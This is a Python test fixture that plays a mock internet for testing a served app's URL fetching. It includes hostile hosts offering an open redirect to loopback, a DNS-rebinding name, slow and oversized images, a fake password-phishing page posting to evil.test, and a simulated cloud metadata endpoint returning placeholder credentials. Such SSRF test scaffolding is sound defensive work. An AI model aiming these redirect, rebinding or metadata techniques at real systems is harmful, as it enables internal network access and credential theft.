"""The internet as a served app sees it, with hosts that mean well, others that do not, and the shop's inner network.

    http://covers.test/cover.png                  an image
    http://evil.test/to?url=http://127.0.0.1/     a redirect, to wherever one likes
    http://evil.test/drip.png?seconds=4           an image whose bytes come one at a time
    http://evil.test/long.png?bytes=3000000       an image that is longer than any cover
    http://evil.test/page.html                    a page that is no image
    http://evil.test/say?text=…                   whatever one likes
    http://inner.evil.test/                       a name whose address is 127.0.0.1
    http://changes.test/                          a name whose address is evil.test's first, and 127.0.0.1 from then on

All of it is played on the loopback address (workbook/serve/outside.py). What answers at 127.0.0.1 and in the other
networks of INSIDE is reached by programs of the shop alone, and so trusts whoever calls.
"""

import json
import struct
import time
import zlib
from collections.abc import Iterator
from contextlib import closing, contextmanager
from urllib.parse import parse_qs, urlsplit

from workbook.folders import temporary_folder
from workbook.serve.hosts import PUBLIC, SECOND, Answer, Server
from workbook.serve.outside import VARIABLE

LOOPBACK, METADATA = "127.0.0.1", "169.254.169.254"
INSIDE = (LOOPBACK, "::1", "::ffff:127.0.0.1", "0.0.0.0", METADATA, "10.0.0.5")  # noqa: S104 (nobody listens there)
OUTSIDE = (PUBLIC, SECOND)
NAMES = {
    "covers.test": [[PUBLIC]],
    "evil.test": [[SECOND]],
    "inner.evil.test": [[LOOPBACK]],
    "changes.test": [[SECOND], [LOOPBACK]],
}
KEY_OF_THE_TILL = "till-7f3a-open-sesame"  # what the inner service tells whoever reaches it
PIECES_A_SECOND = 20  # of an image that drips


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


PNG = b"".join(  # one orange point
    [
        b"\x89PNG\r\n\x1a\n",
        _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)),
        _chunk(b"IDAT", zlib.compress(b"\0\xf2\x64\x19")),
        _chunk(b"IEND", b""),
    ]
)


@contextmanager
def internet() -> Iterator[dict[str, str]]:
    """Play it inside the block; yields the variable with which an app that is served then sees it."""
    with temporary_folder() as folder, closing(Server(public)) as outside, closing(Server(private)) as inside:
        routes = {f"{address} {port}": outside.port for address in OUTSIDE for port in (80, 8080)}
        routes |= {f"{address} 80": inside.port for address in INSIDE}
        path = folder / "internet.json"
        path.write_text(json.dumps({"names": NAMES, "routes": routes}), encoding="utf-8")
        yield {VARIABLE: str(path)}


def public(asked: str) -> Answer:
    """Return what a host on the internet answers: each page is there under each of the names."""
    url = urlsplit(asked.split()[1])
    options = {name: values[-1] for name, values in parse_qs(url.query).items()}
    image = {"Content-Type": "image/png"}
    match url.path:
        case "/to":
            return 302, {"Location": options["url"]}, b""
        case "/drip.png":
            return 200, image, _dripping(float(options["seconds"]))
        case "/long.png":
            return 200, image, PNG.ljust(int(options["bytes"]), b"\0")
        case "/say":
            return 200, {"Content-Type": "application/json"}, options["text"].encode()
        case "/page.html":
            page = "<h1>Books</h1><form action='http://evil.test/'>Your session has expired. Password: <input name=p>"
            return 200, {"Content-Type": "text/html"}, page.encode()
        case _:
            return 200, image, PNG


def _dripping(seconds: float) -> Iterator[bytes]:
    yield PNG
    for _ in range(round(seconds * PIECES_A_SECOND)):
        time.sleep(1 / PIECES_A_SECOND)
        yield b"\0"


def private(asked: str) -> Answer:
    """Return what a service of the inner network answers, and the cloud's about the machine."""
    secret = {"service": "the till", "key": KEY_OF_THE_TILL}
    if asked.endswith("/security-credentials/shop"):
        secret = {"AccessKeyId": "ASIA-SHOP", "SecretAccessKey": f"cloud-{KEY_OF_THE_TILL}"}
    return 200, {"Content-Type": "application/json"}, json.dumps(secret).encode()
